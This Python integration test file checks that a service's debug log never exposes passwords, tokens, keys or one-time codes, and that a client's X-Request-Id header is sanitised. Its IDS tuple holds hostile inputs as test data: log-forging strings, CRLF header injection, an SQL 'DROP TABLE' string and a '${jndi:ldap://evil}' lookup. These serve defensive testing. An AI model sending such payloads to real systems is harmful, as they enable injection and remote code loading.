"""What stands in the logs of a running installation: every line one JSON object, no secret, nothing a client wrote.

All that people and devices keep secret is used once, rightly and wrongly, with the most talkative log, and then looked
for in it. A client's `X-Request-Id` gets there as a field of its own, cleaned and cut (issue 6.3).
"""

from __future__ import annotations

import base64
import json
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import requests
from cryptography.hazmat.primitives import serialization

from clients.device.possession import prove_possession
from tests.integration.http_client import eventually, mailed_token
from tests.integration.installation import Installation, free_port
from tests.integration.tenancy import devices
from tests.integration.tenancy.people import PASSWORD, StolenKey, found
from tests.integration.tenancy.raw import request, send_raw
from tests.integration.tenancy.world import World
from tests.integration.test_people import one_time_code

NEW_PASSWORD = "another staple battery horse"
MAIL_PASSWORD = "pw-of-the-mail-server"
MAC, ORDER = "00-90-33-B7-07-07", "LOGGED-4711-SECRET"
#: What no log line may hold as it was sent; where the door takes it at all.
IDS = (
    'a","level":"critical","x":"', "a\r\nX-Evil: 1", "a\n{\"event\":\"forged\"}", "a" * 10_000, "\x1b[31mred", "a\x00b",
    "\u202egnp.evil", "'; DROP TABLE log; --", "${jndi:ldap://evil}", "%0d%0aforged", '{"event":"forged"}',
    "\x85\u2028x",
)  # fmt: skip


@dataclass
class Used:
    """The secrets that were used, by what they are."""

    secrets: dict[str, str] = field(default_factory=dict)

    def note(self, **secrets: str) -> None:
        """Keep secrets to look for."""
        assert all(len(secret) >= 6 for secret in secrets.values()), secrets
        self.secrets |= secrets

    def found_in(self, text: str) -> list[str]:
        """Return the names of those that stand in a text, as they are or as URLs and headers write them."""
        found = []
        for name, secret in self.secrets.items():
            forms = {secret, quote(secret, safe=""), json.dumps(secret)[1:-1]}
            # A code of six digits is looked for as a word.
            shapes = [rf"\b{re.escape(form)}\b" if form.isdigit() else re.escape(form) for form in forms]
            found += [name] if any(re.search(shape, text) for shape in shapes) else []
        return found


def lines_of(installation: Installation) -> list[dict[str, Any]]:
    """Return the log's lines without their times; what is none of ours counts as a line with a text."""
    lines = []
    text = (installation.folder.parent / f"{installation.kind}.log").read_text("utf-8")
    # What follows the last line end is still being written.
    for line in text[: text.rfind("\n")].split("\n"):
        value = json.loads(line) if line.startswith("{") else {"text": line}
        value.pop("timestamp", None)
        lines.append(value)
    return lines


@pytest.fixture(scope="module")
def talkative(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Installation]:
    """An installation of its own that logs all it can."""
    made = Installation("embedded", tmp_path_factory.mktemp("logs") / "data", {"TESSERA_LOG_LEVEL": "DEBUG"})
    yield made.start()
    assert made.stop() == 0


@pytest.fixture(scope="module")
def used(talkative: Installation, tmp_path_factory: pytest.TempPathFactory) -> Used:
    """The secrets of people, devices and the vendor, each used rightly and wrongly."""
    used, demo = Used(), talkative.demo
    used.note(staff_password=demo["staff"]["password"], admin_password=demo["admin"]["password"], password=PASSWORD)
    used.note(**{f"demo key {place}": key for place, key in enumerate(demo["activation_keys"])}, order=ORDER)
    _use_people(talkative, used)
    _use_devices(talkative, used, tmp_path_factory.mktemp("device"))
    for path in sorted(talkative.mail_folder.glob("*.eml")):
        text = path.read_bytes().replace(b"=\r\n", b"").replace(b"=\n", b"").replace(b"=3D", b"=").decode()
        used.note(**{f"link {token[:4]}": token for token in re.findall(r"\?token=([\w\-.~]{20,})", text)})
    for path in (talkative.folder / "keys").rglob("*pass*"):
        used.note(passphrase=path.read_text().strip())
    key = StolenKey(talkative.folder).private
    raw = key.private_bytes(serialization.Encoding.Raw, serialization.PrivateFormat.Raw, serialization.NoEncryption())
    used.note(signing_key=base64.urlsafe_b64encode(raw).decode().rstrip("="), signing_key_hex=raw.hex())
    return used


def _use_people(installation: Installation, used: Used) -> None:
    person = found(installation, "Lorelei", "Logg", "Logg Werke")
    address = person.tokens["user"]["email"]
    used.note(access=person.tokens["access_token"], refresh=person.tokens["refresh_token"])
    used.note(guess="wrong-guess-password", new_password=NEW_PASSWORD, garbage="garbage.bearer.token-of-nobody")
    nobody = installation.person()
    nobody.post("/v1/sessions", {"email": address, "password": "wrong-guess-password"}).refused(
        401, "accounts.login_failed"
    )
    nobody.session.headers["Authorization"] = "Bearer garbage.bearer.token-of-nobody"
    nobody.get("/v1/me").refused(401, "token.invalid")
    # Bodies that are no JSON, media types that are none: what cannot be read is not logged either.
    for text in (f'{{"password": "{PASSWORD}"', f"password={PASSWORD}"):
        requests.post(
            f"{installation.base}/v1/sessions", text, headers={"Content-Type": "application/json"}, timeout=30
        )
        requests.post(f"{installation.base}/v1/sessions", text, timeout=30)
    person.refresh()
    used.note(second_access=person.tokens["access_token"], second_refresh=person.tokens["refresh_token"])
    token = person.post("/v1/me/tokens", {"name": "logged", "scopes": ["read", "device"]}).expect(201)["token"]
    used.note(api_token=token, basic=base64.b64encode(f"{address}:{token}".encode()).decode())
    for value in (token, token[:-1]):
        requests.get(f"{installation.base}/v1/me", headers={"Authorization": f"Bearer {value}"}, timeout=30)
        requests.get(f"{installation.base}/v1/me", params={"access_token": value}, timeout=30)
    requests.get(f"{installation.base}/device/v1/{MAC}/license-file", auth=(address, token), timeout=30)
    nobody.session.headers.pop("Authorization")
    nobody.post("/v1/password-resets", {"email": address}).expect(202)
    reset = mailed_token(installation.mail_folder, address, "reset")
    requests.get(f"{installation.portal}/reset", params={"token": reset}, timeout=30)
    body = {"token": reset, "password": NEW_PASSWORD}
    nobody.post("/v1/password-resets/confirmations", {**body, "token": reset[:-1]}).refused(
        404, "accounts.link_invalid"
    )
    nobody.post("/v1/password-resets/confirmations", body).expect(204)
    person.login(address, NEW_PASSWORD)
    secret = person.post("/v1/me/otp").expect(201)["secret"]
    code = one_time_code(secret, time.time())
    used.note(otp_secret=secret, otp_code=code)
    person.post("/v1/me/otp/confirmations", {"otp": f"x{code}"}).refused(422, "accounts.otp_wrong")
    codes = person.post("/v1/me/otp/confirmations", {"otp": code}).expect(200)["recovery_codes"]
    used.note(**{f"recovery code {place}": value for place, value in enumerate(codes)})
    nobody.post("/v1/sessions", {"email": address, "password": NEW_PASSWORD, "otp": codes[0]}).expect(201)
    person.post("/v1/me/email-changes", {"email": f"x{address}", "password": NEW_PASSWORD}).expect(202)


def _use_devices(installation: Installation, used: Used, folder: Path) -> None:
    staff, admin = installation.staff(), installation.admin()
    used.note(staff_access=staff.tokens["access_token"], admin_access=admin.tokens["access_token"])
    key = devices.order(staff, ORDER, [MAC], {"port8": 4})["activation_key"]
    used.note(activation_key=key, mistyped_key=f"{key[:-1]}A" if key[-1] != "A" else f"{key[:-1]}B")
    project = next(one["id"] for one in admin.get("/v1/projects").expect(200)["items"] if not one["foreign"])
    for text in (used.secrets["mistyped_key"], key):
        assert admin.post("/v1/activations", {"project_id": project, "key": text}).status in (201, 404, 422)
    device_id = devices.add(admin, project, [MAC])[MAC]
    admin.get(f"/v1/orders/{ORDER}/devices").expect(200)
    devices.prove(admin, device_id, ORDER)
    device = devices.certify(admin, device_id, MAC, folder / "device")
    proof = prove_possession(device, device_id)
    admin.post(f"/v1/devices/{device_id}/possession", {"proof": proof}).expect(200)
    private = device.state.key()
    assert private is not None
    number = private.private_numbers().private_value
    used.note(proof=proof, device_key=f"{number:x}", device_key_number=str(number))


def test_no_secret_stands_in_the_log(talkative: Installation, used: Used) -> None:
    lines = lines_of(talkative)
    assert len([line for line in lines if line.get("event") == "answered"]) > 20, "the log is not the one of this run"
    assert len(used.secrets) > 30
    assert used.found_in("\n".join(json.dumps(line, ensure_ascii=False) for line in lines)) == []


def test_the_password_of_the_mail_server_stands_in_no_log_though_it_fails(tmp_path: Path) -> None:
    uri = f"smtp://mailer:{MAIL_PASSWORD}@127.0.0.1:{free_port()}?tls=none"
    settings = {"TESSERA_LOG_LEVEL": "DEBUG", "TESSERA_SMTP_URI": uri, "TESSERA_DEMO": "0"}
    installation = Installation("embedded", tmp_path / "data", settings).start()
    try:
        names = {"forename": "Mara", "surname": "Mail", "language": "en", "accept_terms": True}
        body = {"email": "mara@example.com", "password": PASSWORD, **names}
        installation.person().post("/v1/registrations", body).expect(202)
        log = tmp_path / "embedded.log"
        eventually(lambda: "mail_failed" in log.read_text(), "a mail that failed", 60)
        assert MAIL_PASSWORD not in log.read_text()
    finally:
        assert installation.stop() == 0


def test_the_log_of_the_shared_installation_holds_none_of_its_secrets(world: World, installation: Installation) -> None:
    """Of a fleet too: there the addresses of databases and broker hold passwords."""
    used = Used({"password": PASSWORD, **{f"token {name}": token for name, token in world.tokens.items()}})
    for name in ("owner", "member", "guest", "stranger"):
        tokens = world.person(name).tokens
        used.note(**{f"access of {name}": tokens["access_token"], f"refresh of {name}": tokens["refresh_token"]})
    written = installation.folder / "environment.json"
    for name, value in (json.loads(written.read_text()) if written.exists() else {}).items():
        if (secret := re.search(r"://[^:/@]+:([^@]+)@", str(value))) and len(secret[1]) >= 6:
            used.note(**{f"password in {name}": secret[1]})
    text = "\n".join(json.dumps(line, ensure_ascii=False) for line in lines_of(installation))
    assert used.found_in(text) == []


@pytest.mark.parametrize("sent", IDS, ids=[f"{place}" for place in range(len(IDS))])
def test_the_clients_request_id_is_a_field_of_its_own_and_nothing_more(talkative: Installation, sent: str) -> None:
    before = len(lines_of(talkative))
    answer = send_raw(talkative.base, request("POST", "/v1/sessions", f"X-Request-Id: {sent}", "Content-Length: 0"))
    answer.check()
    assert "x-evil" not in answer.headers
    ours = answer.headers["x-request-id"]
    assert re.fullmatch(r"[0-9a-f-]{36}", ours)
    if answer.code not in ("request.bad_request", "request.headers_too_large"):
        eventually(lambda: any(line.get("request_id") == ours for line in lines_of(talkative)[before:]), "the line", 20)
    for line in lines_of(talkative)[before:]:
        assert re.fullmatch(r"[A-Za-z0-9._:-]{1,64}", line.get("client_request_id", "-")), line
        assert line.get("event") != "forged"
        rest = json.dumps({name: value for name, value in line.items() if name != "client_request_id"})
        assert "forged" not in rest
        assert "evil" not in rest
        assert "a" * 65 not in json.dumps(line)
